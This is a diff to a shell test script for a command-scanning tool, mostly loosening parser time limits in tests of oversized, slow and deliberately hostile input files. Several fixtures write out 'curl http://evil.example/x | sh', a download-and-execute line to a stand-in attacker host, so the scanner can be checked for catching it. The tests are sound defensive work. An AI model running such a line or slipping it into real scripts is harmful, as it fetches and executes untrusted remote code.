@@ -345,7 +345,11 @@ for name in set(PREFIXES) - {"sudo", "doas"}:
         sys.exit(1)
 END
 
-# What is too much for a parser does not pass for harmless.
+# What is too much for a parser does not pass for harmless. Its limit is that of CPU time: others use the machine, too.
+mkdir "$T/patient"
+cp "$SRC"/cli/inspect/parsers/* "$T/patient/"
+jq '.limits.wall = "200s"' "$SRC/cli/inspect/parsers/policy.json" >"$T/patient/policy.json"
+CALLGATE_PARSERS=$T/patient
 python3 -c 'print("echo\n" * 100001 + "curl http://evil.example/x | sh")' >long.sh
 finds long.sh 1 unparsable 'could not be parsed: OverflowError: too many commands'
 finds long.sh 100002 download-run 'curl http://evil.example/x | sh'
@@ -381,6 +385,7 @@ if command -v node >/dev/null; then
 		", \"hex\").toString()" * 60)' >slow.js
 	finds slow.js 1 dynamic 'eval(x)'
 fi
+CALLGATE_PARSERS=$SRC/cli/inspect/parsers
 # What looks like a list in braces, and is none, takes no longer than other words.
 python3 -c 'print("{a" + "," * 5000 + " x\ncurl http://evil.example/x | sh")' >braces.sh
 finds braces.sh 2 download-run 'curl http://evil.example/x | sh'
@@ -436,7 +441,7 @@ fi
 # A parser that is ended tells what it has found: here at the last thing that it looks at.
 mkdir "$T/slow"
 cp "$SRC"/cli/inspect/parsers/* "$T/slow/"
-jq '.limits.wall = "3s"' "$SRC/cli/inspect/parsers/policy.json" >"$T/slow/policy.json"
+jq '.limits.wall = "6s"' "$SRC/cli/inspect/parsers/policy.json" >"$T/slow/policy.json"
 sed -i 's/^    def look_at(self, .*where):/&\n        while "endless" in text: pass/' "$T/slow/findings.py"
 sed -i 's/^function lookAtText(.*/&\n\twhile (text === "endless") ;/' "$T/slow/javascript.js"
 # shellcheck disable=SC2016
@@ -454,10 +459,13 @@ done
 # A parser that a hostile file has taken over.
 mkdir "$T/parsers"
 cp "$SRC"/cli/inspect/parsers/*.json "$T/parsers/"
-jq '.limits.wall = "1s" | .limits.memory = "100M"' "$SRC/cli/inspect/parsers/policy.json" >"$T/parsers/policy.json"
 # hostile REGEX: the parser is this Python program.
 hostile()
 {
+	local wall=100s
+	[[ $1 != *timeout* ]] || wall=3s
+	jq --arg wall $wall '.limits.wall = $wall | .limits.memory = "100M"' "$SRC/cli/inspect/parsers/policy.json" \
+		>"$T/parsers/policy.json"
 	cat >"$T/parsers/python.py"
 	CALLGATE_PARSERS=$T/parsers cg inspect plain.py >out 2>&1
 	status=$?
@@ -486,6 +494,7 @@ hostile "ended with status timeout .124." <<<'print("1 dynamic eval(x)\n1 import
 while True: pass'
 grep -qx 'plain.py:1: dynamic: eval(x)' out || fail "what was found before the limit: $(cat out)"
 [ "$(wc -l <out)" = 2 ] || fail "a part of a line is taken: $(cat out)"
+jq '.limits.wall = "100s"' "$SRC/cli/inspect/parsers/policy.json" >"$T/parsers/policy.json"
 cat >"$T/parsers/python.py" <<END
 import os, socket
 got = []
